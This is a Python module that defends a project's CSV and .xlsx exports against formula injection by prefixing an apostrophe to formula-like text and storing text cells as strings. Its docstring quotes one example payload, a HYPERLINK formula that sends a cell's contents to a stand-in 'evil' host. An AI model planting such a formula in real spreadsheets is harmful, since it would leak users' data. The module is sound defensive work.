"""Text that a spreadsheet never runs: the CSV-injection rule shared by every .csv and .xlsx writer.

Excel, LibreOffice and WPS read a cell whose text begins with `=`, `+`, `-` or `@` (or a tab or a
carriage return, which they skip before such a character) as a formula. An imported enterprise
name or a bank account name such as `=HYPERLINK("http://evil/?"&A1, "领取")` would become a live
link, or a DDE command, in the 公示 list, the payment list or stats.csv. The rule (OWASP "CSV
Injection"), applied by every writer of the project:

- CSV has no types. A text value that begins with one of FORMULA_PREFIXES is written with one
  leading apostrophe, which spreadsheets show as text; any other text is written as it is.
  Numbers are passed to the writer as numbers (int, Decimal) and stay numbers: a negative
  amount is never touched. Text that is nothing but a plain number (`-1`, `+2.5`, `-3e2`, as a
  refused cell of an import is echoed) is no formula either and is written as it is.
- .xlsx has types. Every text cell is stored as a string (openpyxl data_type "s"), so that it is
  never a formula, and its text is kept exactly.

Pure: no I/O and no spreadsheet library; the .xlsx side works on anything shaped like an
openpyxl cell (the TextCell protocol).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"
# openpyxl's type code of a string cell (a formula is "f").
STRING = "s"


# A signed decimal number, ASCII digits only: what a spreadsheet reads as a number, not a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def starts_like_formula(text: str) -> bool:
    """True if a spreadsheet could read `text` as a formula."""
    return text.startswith(FORMULA_PREFIXES) and _PLAIN_NUMBER.fullmatch(text) is None


def csv_text(text: str) -> str:
    """`text` as a CSV field that no spreadsheet evaluates: an apostrophe before a formula."""
    return NEUTRALISER + text if starts_like_formula(text) else text


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for csv.writer: text neutralised, numbers and empty values as they are."""
    return [csv_text(value) if isinstance(value, str) else value for value in values]


class TextCell(Protocol):
    """What this module needs of a spreadsheet cell (openpyxl's Cell and WriteOnlyCell)."""

    @property
    def value(self) -> object: ...

    data_type: str


def keep_text(cells: Iterable[TextCell]) -> None:
    """Store every text cell of `cells` as a string, never a formula (the text is unchanged)."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = STRING
